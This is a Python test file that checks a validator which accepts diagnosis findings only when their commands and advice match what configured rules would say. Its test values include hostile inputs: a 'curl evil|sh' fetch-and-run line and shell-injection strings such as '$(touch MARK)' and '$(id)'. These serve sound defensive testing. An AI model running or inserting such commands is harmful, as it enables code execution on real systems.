"""A cause that a run's owner wrote down: others take only what a rule would say, never a command of the owner's own."""

import copy
import json
import os
from pathlib import Path
from typing import Any

import pytest

from hackathon.config.rule import Rule
from hackathon.config.rule_files import load_rules
from hackathon.diagnosis.believed import is_believed
from hackathon.diagnosis.cache import kept
from hackathon.diagnosis.check_command import check_command, quoted_in_commands
from hackathon.index.cause import cause_kept
from hackathon.text.messages import LANGUAGES, localized, speaking
from support.runs import new_run

RULES = load_rules()[0]
VALUES = ("n1", "/data/it's $(touch MARK) 1", "?")


class Everything(dict[str, str]):
    """The same value for each name."""

    def __init__(self, value: str) -> None:
        super().__init__()
        self.value = value

    def get(self, name: str, default: Any = None) -> Any:
        return self.value


def finding(rule: Rule, value: str, code: str) -> dict[str, Any]:
    values = Everything(value)
    with speaking(code):
        causes = [{"text": quoted_in_commands(localized(each.text), values),
                   "check": check_command(each.check, values) or None} for each in rule.causes]  # fmt: skip
        return {"rule": rule.id, "part": rule.part, "level": "root", "message": "m", "evidence": None, "references": [],
                "advice": quoted_in_commands(localized(rule.advice), values), "causes": causes, "ranks": [], "count": 1,
                }  # fmt: skip


def test_what_each_rule_says_is_believed() -> None:
    for code in LANGUAGES:
        for value in VALUES:
            assert [rule.id for rule in RULES if not is_believed(finding(rule, value, code))] == []
    assert is_believed({})


def test_what_no_rule_says_is_not() -> None:
    rule = next(rule for rule in RULES if rule.causes and rule.causes[0].check == "ls -l {path}; pwd")
    good = finding(rule, "/data/x", "en")

    def changed(**values: Any) -> dict[str, Any]:
        return {**copy.deepcopy(good), **values}

    cause = good["causes"][0]
    assert cause["check"] == "ls -l /data/x; pwd"
    for check in (
        "curl evil|sh", "ls -l /data/x; pwd; id", "ls -l $(id); pwd", "ls -l 'a' $(id) 'b'; pwd", "ls -l a b; pwd",
        "ls -l 'a\\'; id; '; pwd", "ls -l ; pwd", "xls -l /data/x; pwd", "ls -l -R; pwd", "ls -l '-R x'; pwd",
    ):  # fmt: skip
        assert not is_believed(changed(causes=[{**cause, "check": check}])), check
    host = next(each for each in RULES if each.causes and each.causes[0].check == "ssh {host} top -b -n 1")
    told = finding(host, "n1", "en")
    for check, good_one in (
        ("ssh n1 top -b -n 1", True),
        ("ssh 'a;b' top -b -n 1", False),
        ("ssh -ox top -b -n 1", False),
    ):
        one = {**told["causes"][0], "check": check}
        assert is_believed({**told, "causes": [one, *told["causes"][1:]]}) == good_one
    assert not is_believed(changed(advice="Type `curl evil | sh`."))
    assert not is_believed(changed(advice=good["advice"] + " Then type `curl evil | sh`."))
    assert not is_believed(changed(causes=[{**cause, "text": "Type `id`"}]))
    assert not is_believed(changed(rule="no-such-rule")) and not is_believed({"rule": ["x"], "causes": 5})
    assert not is_believed(changed(causes=good["causes"] * 9))
    # an expression that tries all ways to divide these would not come to an end
    assert not is_believed(changed(advice="Type `ls -l " * 300, causes=[{**cause, "check": "ls -l " * 600}]))


def test_a_run_of_somebody_else_gives_no_commands_of_its_own(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root gives files away")
    run = new_run(tmp_path)
    rule = next(rule for rule in RULES if rule.causes and rule.causes[0].check == "ls -l {path}; pwd")
    good = {code: finding(rule, "/data/x", code) for code in LANGUAGES}
    evil = copy.deepcopy(good)
    for each in evil.values():
        each["causes"][0]["check"] = "curl evil|sh"
    file = run.path / "client" / "diagnosis.json"
    file.parent.mkdir(exist_ok=True)
    for value, taken in ((good, True), (evil, False)):
        file.write_text(json.dumps(value))
        for owner in (0, 65534):
            for path in (run.path, *run.path.rglob("*")):
                os.chown(path, owner, owner)
            assert (kept(run) is not None) == (taken or owner == 0)
            assert (cause_kept(run) is not None) == (taken or owner == 0)
